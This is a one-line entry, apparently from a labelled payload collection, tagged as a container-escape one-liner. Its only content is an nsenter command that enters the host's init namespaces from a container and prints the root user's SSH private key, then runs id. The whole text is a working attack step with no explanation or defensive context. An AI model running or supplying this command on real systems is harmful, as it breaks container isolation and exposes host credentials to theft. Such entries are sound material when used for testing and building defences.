# class: container escape; style: one-liner
nsenter -t 1 -m -u -n -i -p sh -c 'cat /root/.ssh/id_rsa; id'
